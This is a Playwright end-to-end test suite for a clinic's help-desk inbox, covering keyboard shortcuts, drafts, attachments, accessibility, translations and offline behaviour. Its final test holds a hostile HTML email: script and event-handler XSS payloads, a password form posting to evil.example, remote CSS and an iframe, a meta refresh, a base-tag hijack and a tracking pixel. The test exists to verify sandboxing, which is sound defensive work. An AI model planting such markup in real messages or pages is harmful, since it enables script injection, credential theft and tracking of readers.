import { bubble, composer, expect_accessible, new_conversation, to_row } from './cases';
import { director, en, expect, open_as, say, send, started, test } from './desk';

const path_of = (id: number, view = 'mine') => `/inbox/${view}/${id}`;

test('a case from the list to the answer and back, by keyboard alone', async ({ desk }) => {
  const { id, title } = await new_conversation(desk);
  await desk.goto('/inbox/mine');
  const row = desk.locator(`a[data-case="${id}"]`);
  await expect(desk.locator('a[data-case]').first()).toBeVisible();
  await to_row(desk, id);
  await desk.keyboard.press('Enter');
  await expect(desk).toHaveURL(new RegExp(`${id}$`));
  await expect(desk.getByRole('heading', { name: title })).toBeVisible();

  await desk.keyboard.press('r');
  await expect(composer(desk)).toBeFocused();
  await desk.keyboard.type('Good morning, your report is ready at the desk.');
  await desk.keyboard.press('Control+Enter');
  await expect(bubble(desk, 'your report is ready')).toBeVisible();
  await expect(desk.getByText(en('inbox:said.sent'))).toBeVisible();
  await expect(composer(desk)).toHaveValue('');

  // Undo within ten seconds: the message is gone, the words are back.
  await desk.keyboard.press('Escape');
  await desk.keyboard.press('z');
  await expect(bubble(desk, 'your report is ready')).toHaveCount(0);
  await expect(composer(desk)).toHaveValue('Good morning, your report is ready at the desk.');

  await desk.keyboard.press('Escape');
  await desk.keyboard.press('n');
  const note = desk.getByRole('textbox', { name: en('inbox:write_note') });
  await expect(note).toBeFocused();
  await note.press('Control+a');
  await desk.keyboard.type('Told by phone as well.');
  await desk.keyboard.press('Control+Enter');
  await expect(bubble(desk, 'Told by phone')).toBeVisible();

  await desk.keyboard.press('Escape');
  await desk.keyboard.press('e');
  await expect(desk.getByText(en('inbox:said.resolved'), { exact: true }).last()).toBeVisible();
  await expect(row).toHaveCount(0);
  await desk.keyboard.press('z');
  await expect(desk).toHaveURL(new RegExp(`${id}$`));
  await expect.poll(async () => (await send<{ state: string }>(desk, 'GET', `/api/cases/${id}`)).state).toBe('open');
});

test('Ctrl K finds people and does commands, ? shows the keys', async ({ desk }) => {
  await desk.goto('/inbox/mine');
  await expect(desk.getByRole('navigation', { name: en('inbox:views') })).toBeVisible();
  await desk.keyboard.press('Control+k');
  const field = desk.getByRole('combobox', { name: en('app:palette_placeholder') });
  await expect(field).toBeFocused();
  const patient = await send<{ family_name: string; display_name: string }>(
    desk,
    'GET',
    `/api/patients/${started().patient}`,
  );
  await field.fill(patient.display_name);
  await expect(desk.getByRole('option').filter({ hasText: patient.display_name }).first()).toBeVisible();
  await field.fill(en('inbox:view.unassigned'));
  await expect(desk.getByRole('option', { selected: true })).toContainText(en('inbox:view.unassigned'));
  await desk.keyboard.press('Enter');
  await expect(desk).toHaveURL(/unassigned$/);
  // Search text is nowhere in the address.
  expect(desk.url()).not.toContain('?');
  await desk.keyboard.press('?');
  await expect(desk.getByRole('dialog', { name: en('app:shortcuts') })).toBeVisible();
});

test('what a colleague does appears without reloading, and the wait is drawn', async ({ desk, browser }) => {
  const { id } = await new_conversation(desk);
  await desk.goto(path_of(id));
  await expect(desk.getByRole('img', { name: /^Who held this case/ })).toBeVisible();
  const other = await (await director(browser)).newPage();
  await other.goto('/settings/account');
  await send(other, 'POST', `/api/cases/${id}/notes`, {
    text: 'The laboratory called back.',
    idempotency_key: `note-${id}-1`,
  });
  await expect(bubble(desk, 'The laboratory called back.')).toBeVisible();
  await send(other, 'POST', `/api/cases/${id}/priority`, { priority: 'urgent' });
  await expect(desk.getByText(en('inbox:priority.urgent'), { exact: true }).first()).toBeVisible();
  await other.context().close();
});

test('a draft is kept on the server and survives a reload; sending removes it', async ({ desk }) => {
  const { id } = await new_conversation(desk);
  await desk.goto(path_of(id));
  await composer(desk).fill('I shall ask the doctor and');
  await expect
    .poll(async () => (await send<{ text: string }>(desk, 'GET', `/api/cases/${id}/draft`)).text)
    .toBe('I shall ask the doctor and');
  await desk.reload();
  await expect(composer(desk)).toHaveValue('I shall ask the doctor and');
  await composer(desk).fill('I shall ask the doctor and write tomorrow.');
  await composer(desk).press('Control+Enter');
  await expect(bubble(desk, 'write tomorrow')).toBeVisible();
  await expect.poll(async () => (await send<{ text: string }>(desk, 'GET', `/api/cases/${id}/draft`)).text).toBe('');
});

test('a file is attached by the button and can be removed', async ({ desk }) => {
  const { id } = await new_conversation(desk);
  await desk.goto(path_of(id));
  await expect(composer(desk)).toBeVisible();
  await desk.locator('input[type=file]').setInputFiles({
    name: 'informe médico.pdf',
    mimeType: 'application/pdf',
    buffer: Buffer.from('%PDF-1.4\n%%EOF\n'),
  });
  const files = desk.getByRole('list', { name: en('inbox:attachments') });
  await expect(files.getByText('informe médico.pdf')).toBeVisible();
  await expect
    .poll(
      async () => (await send<{ attachments: unknown[] }>(desk, 'GET', `/api/cases/${id}/draft`)).attachments.length,
    )
    .toBe(1);
  await files.getByRole('button').click();
  await expect(files).toHaveCount(0);
});

test('the panel shows the patient and who looked at this record', async ({ desk }) => {
  const { id } = await new_conversation(desk);
  await desk.goto(path_of(id));
  const panel = desk.getByRole('complementary', { name: en('panel:title') });
  const patient = await send<{ display_name: string }>(desk, 'GET', `/api/patients/${started().patient}`);
  await expect(panel.getByRole('heading', { name: patient.display_name })).toBeVisible();
  const session = await send<{ user: { name: string } }>(desk, 'GET', '/api/session');
  await expect(
    panel
      .getByRole('region', { name: en('panel:accesses') })
      .getByText(session.user.name)
      .first(),
  ).toBeVisible();
  await panel.getByRole('button', { name: en('panel:close') }).click();
  await expect(panel).toHaveCount(0);
  await desk.keyboard.press('p');
  await expect(panel).toBeVisible();
});

for (const theme of ['light', 'dark']) {
  test(`no violation of WCAG 2.2 A and AA in the inbox and a case (${theme})`, async ({ desk }) => {
    const { id, title } = await new_conversation(desk);
    await open_as(desk, '/inbox/all', { language: 'en', theme });
    await expect(desk.locator('a[data-case]').first()).toBeVisible();
    await expect_accessible(desk);
    await desk.goto(path_of(id));
    await expect(desk.getByRole('heading', { name: title })).toBeVisible();
    await expect(
      desk
        .getByRole('complementary', { name: en('panel:title') })
        .getByRole('heading')
        .first(),
    ).toBeVisible();
    await composer(desk).fill('Good morning');
    await expect_accessible(desk);
    await composer(desk).press('Escape');
    await desk.keyboard.press('s');
    await expect(desk.getByRole('dialog')).toBeVisible();
    await expect_accessible(desk);
    await desk.keyboard.press('Escape');
    await expect(desk.getByRole('dialog')).toHaveCount(0);
    await desk.keyboard.press('Control+k');
    await expect(desk.getByRole('combobox')).toBeVisible();
    await expect_accessible(desk);
    await open_as(desk, '/inbox/mine', { language: 'en', theme: 'system' });
  });
}

for (const language of ['es', 'fr', 'ca']) {
  test(`the inbox speaks ${language}, without a missing word or a violation`, async ({ desk }) => {
    const { id } = await new_conversation(desk);
    await open_as(desk, path_of(id), { language });
    await expect(desk.locator('html')).toHaveAttribute('lang', language);
    await expect(desk.getByRole('navigation', { name: say(language, 'inbox:views') })).toBeVisible();
    await expect(desk.getByRole('textbox', { name: say(language, 'inbox:write_reply') })).toBeVisible();
    // A key instead of a word would look like "inbox:…" or "view.…".
    expect(await desk.locator('body').innerText()).not.toMatch(
      /\b(inbox|app|panel|errors):|\b(view|said|event|outcome|clock)\.[a-z_]+/,
    );
    await expect_accessible(desk);
    await open_as(desk, '/inbox/mine', { language: 'en' });
  });
}

test('one pane at a time on a narrow screen, nothing to scroll sideways', async ({ browser }) => {
  const context = await director(browser, { viewport: { width: 320, height: 640 } });
  const page = await context.newPage();
  const { id, title } = await new_conversation(
    page,
    'Señora Bartholomäus-Żółkiewska pregunta por una autorización extraordinariamente larga',
  );
  const sideways = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  await page.goto('/inbox/mine');
  await expect(page.locator('a[data-case]').first()).toBeVisible();
  expect(await sideways()).toBeLessThanOrEqual(0);
  await page.goto(path_of(id));
  await expect(page.getByRole('heading', { name: title })).toBeVisible();
  await expect(page.locator('a[data-case]').first()).toBeHidden();
  await composer(page).fill('x'.repeat(200));
  expect(await sideways()).toBeLessThanOrEqual(0);
  await expect_accessible(page);
  await page.getByRole('button', { name: en('inbox:back') }).click();
  await expect(page.locator('a[data-case]').first()).toBeVisible();
  await context.close();
});

test('a lost connection is said, what was typed stays, and it comes back by itself', async ({ browser }) => {
  const context = await director(browser);
  const page = await context.newPage();
  const { id } = await new_conversation(page);
  await page.goto(path_of(id));
  await expect(composer(page)).toBeVisible();
  await context.setOffline(true);
  await composer(page).fill('Typed in a tunnel.');
  await expect(page.getByText(en('inbox:draft.kept_here'))).toBeVisible();
  await context.setOffline(false);
  await expect
    .poll(async () => (await send<{ text: string }>(page, 'GET', `/api/cases/${id}/draft`)).text, { timeout: 20_000 })
    .toBe('Typed in a tunnel.');
  await context.close();
});

test('HTML of a stranger runs nothing, loads nothing, and sends no sign of having been read', async ({ browser }) => {
  const context = await director(browser);
  const page = await context.newPage();
  const { id } = await new_conversation(page);
  const note = await send<{ id: number }>(page, 'POST', `/api/cases/${id}/notes`, { text: 'stands for a mail' });
  // The mail is put in the way of the answers: this is about what the page does with hostile HTML.
  const asked: string[] = [];
  await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.route(`**/api/cases/${id}/messages*`, async (route) => {
    const answer = await route.fetch();
    const list = await answer.json();
    for (const one of list.items)
      if (one.id === note.id)
        Object.assign(one, { kind: 'message', direction: 'in', author_kind: 'person', has_html: true });
    return route.fulfill({ response: answer, json: list });
  });
  await page.route(`**/api/messages/${note.id}/html`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<p id="top">Dear <b>desk</b></p><script>parent.hacked = 1; document.title = 'hacked'</script><img src="https://tracker.example/read.gif"><img src=x onerror="parent.hacked = 1">
        <a href="javascript:parent.hacked = 1">press</a><form action="https://evil.example"><input name=password></form><style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b.png) }</style>
        <div style="background: url(https://evil.example/c.png); position: fixed">x</div><iframe src="https://evil.example"></iframe><svg onload="parent.hacked = 1"></svg><meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example/">`,
    }),
  );
  await page.goto(path_of(id));
  await page.getByRole('button', { name: en('inbox:as_html') }).click();
  const frame = page.locator(`iframe[title="${en('inbox:html_frame')}"]`);
  await expect(frame.contentFrame().getByText('Dear desk')).toBeVisible();
  const sandbox = (await frame.getAttribute('sandbox')) ?? 'none';
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toMatch(/allow-(forms|modals|top-navigation|downloads)/);
  await expect(
    frame.contentFrame().locator('script, form, input, iframe, svg, style:not(head style), meta[http-equiv=refresh]'),
  ).toHaveCount(0);
  expect(await frame.contentFrame().locator('a').getAttribute('href')).toBeNull();
  await expect(page.getByText(/not loaded/)).toBeVisible();
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await page.getByRole('button', { name: en('inbox:load_images') }).click();
  await expect.poll(() => asked).toEqual(['https://tracker.example/read.gif']);
  await context.close();
});
